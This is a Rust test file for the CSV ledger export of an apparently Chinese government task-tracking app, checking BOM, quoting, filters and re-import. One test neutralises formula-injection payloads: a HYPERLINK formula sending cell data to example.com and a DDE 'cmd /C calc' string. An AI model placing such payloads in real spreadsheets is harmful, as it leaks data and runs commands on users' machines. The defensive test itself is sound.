//! The CSV 台账 read back with the `csv` crate equals the parsed tasks of seeds 003
//! and 004, starts with the UTF-8 byte-order mark, and keeps commas, quotes and
//! newlines inside their fields.

use crate::export_support;

use duban::export::worker_protocol::{answer, Export, ExportRequest, CSV_MIME};
use duban::export::{ledger_csv, neutralised, BOM, COLUMNS};
use duban::filter::Filter;
use export_support::*;

fn read_back(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    assert!(bytes.starts_with(BOM), "the CSV starts with the UTF-8 BOM");
    let mut reader = csv::Reader::from_reader(&bytes[BOM.len()..]);
    let headers = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let records = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (headers, records)
}

#[test]
fn seed_003_all_tasks_round_trip() {
    let seed = seed(SEED_003);
    let ledger = ledger(&seed, &Filter::default());
    let (headers, records) = read_back(&ledger_csv(&ledger.rows));
    assert_eq!(headers, COLUMNS);
    assert_eq!(
        headers,
        [
            "序号",
            "所属章节",
            "原文编号",
            "任务内容",
            "牵头领导",
            "牵头单位",
            "配合单位",
            "完成时限",
            "我的期限",
            "状态",
            "备注"
        ]
    );
    let expected = expected_rows(&seed.outline, all);
    assert_eq!(expected.len(), seed.index.task_count());
    assert!(
        expected.len() >= 40,
        "003 has many tasks: {}",
        expected.len()
    );
    assert_eq!(records, expected);
    assert_eq!(records[0][3], "地区生产总值增长7%左右");
    // The number as written in the source, by which people refer to the task.
    assert_eq!(records[0][2], "(一)");
    assert_eq!(records[0][1], "一、2021年经济社会主要发展目标");
    assert_eq!(
        records[0][5],
        "市发改局、市统计局、市级有关部门、各镇(街道)"
    );
}

#[test]
fn seed_004_tricky_text_and_note_survive() {
    let seed = seed(SEED_004);
    let ledger = ledger(&seed, &Filter::default());
    let bytes = ledger_csv(&ledger.rows);
    let (_, records) = read_back(&bytes);
    assert_eq!(records, expected_rows(&seed.outline, all));
    assert_eq!(records[0][3], TRICKY_TEXT);
    assert_eq!(records[0][10], TRICKY_NOTE);
    // A 民生实事 item's target is its paragraph, exported with it.
    assert!(records.iter().any(
        |r| r[3].starts_with("“专曙健康”项目\n目标任务") && r[3].contains("新增医院床位500张")
    ));
    // Quoted by the CSV rules: the field in quotes, inner quotes doubled, CRLF line ends.
    let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
    assert!(text.contains("\"推进\"\"数字政府\"\"建设,提升效能\n第二行：\"\"最多跑一次\"\"\""));
    assert!(text.starts_with(
        "序号,所属章节,原文编号,任务内容,牵头领导,牵头单位,配合单位,完成时限,我的期限,状态,备注\r\n"
    ));
}

#[test]
fn a_unit_filter_exports_exactly_that_units_tasks() {
    let seed = seed(SEED_003);
    let ledger = ledger(&seed, &unit_filter("市发改局"));
    let (_, records) = read_back(&ledger_csv(&ledger.rows));
    let has = |keys: &[String]| keys.iter().any(|k| k == "市发改局");
    let expected = expected_rows(&seed.outline, |lead, coop| has(lead) || has(coop));
    assert!(!expected.is_empty());
    assert!(expected.len() < seed.index.task_count());
    assert_eq!(records, expected);
    assert_eq!(ledger.filter, "单位：市发改局");
}

#[test]
fn an_empty_view_is_the_header_alone() {
    let seed = seed(SEED_003);
    let filter = Filter {
        keyword: "不存在的关键词xyz".to_owned(),
        ..Filter::default()
    };
    let ledger = ledger(&seed, &filter);
    assert!(ledger.rows.is_empty());
    let (headers, records) = read_back(&ledger_csv(&ledger.rows));
    assert_eq!(headers, COLUMNS);
    assert!(records.is_empty());
}

#[test]
fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let ledger = formula_ledger();
    let (_, records) = read_back(&ledger_csv(&ledger.rows));
    let texts: Vec<&str> = records.iter().map(|r| r[3].as_str()).collect();
    assert_eq!(
        texts,
        [
            "'=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")",
            "'@SUM(1+1)推进工作",
            "'+1+2 推进工作",
            "'-2+3 推进工作",
            "'=1+1 推进工作",
        ]
    );
    // Units and notes too; cells that are not formulas are left as they are.
    assert_eq!(records[1][6], "'=1+2局");
    assert_eq!(records[0][5], "市发改局");
    assert_eq!(records[0][10], "'=cmd|' /C calc'!A0");
    assert_eq!(records[1][10], "'-");
    assert_eq!(records[0][0], "1");
    for cell in records.iter().flatten() {
        let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next();
        assert!(
            !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
            "{cell:?}"
        );
    }
    assert_eq!(neutralised("（一）推进"), "（一）推进");
    assert_eq!(neutralised("\t=1"), "'\t=1");
    assert_eq!(neutralised("　=1"), "'　=1", "after a full-width space too");
    assert_eq!(neutralised(""), "");
}

/// The 台账 this app exports, opened again, reads back into its tasks: the 我的期限
/// column (the user's own date) is not taken for the deadline of a task that has none.
#[test]
fn the_exported_csv_with_my_due_dates_reads_back_into_the_same_tasks() {
    let seed = seed(SEED_003);
    let ledger = ledger(&seed, &Filter::default());
    let bytes = ledger_csv(&ledger.rows);
    let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
    let outline = duban::parser::parse(&duban::text_file::csv_as_table(text));
    let tasks: Vec<&duban::parser::Node> =
        outline.documents.iter().flat_map(|d| d.tasks()).collect();
    assert_eq!(tasks.len(), ledger.rows.len());
    for (t, r) in tasks.iter().zip(&ledger.rows) {
        assert_eq!(t.text, r.text);
        let deadline = t.deadline.as_ref().map(|d| d.text.as_str()).unwrap_or("");
        assert_eq!(deadline, r.deadline, "{}", r.text);
    }
}

#[test]
fn the_worker_writes_the_same_csv_as_the_writer() {
    for path in [SEED_003, SEED_004] {
        let seed = seed(path);
        let ledger = ledger(&seed, &Filter::default());
        let request = serde_json::to_string(&ExportRequest {
            id: 3,
            export: Export::LedgerCsv(ledger.clone()),
        })
        .unwrap();
        let (id, result) = answer(&request);
        assert_eq!(id, 3);
        let file = result.unwrap();
        assert_eq!((file.mime, file.ext), (CSV_MIME, "csv"));
        assert!(file.bytes.starts_with(BOM));
        assert_eq!(file.bytes, ledger_csv(&ledger.rows), "{path}");
    }
}
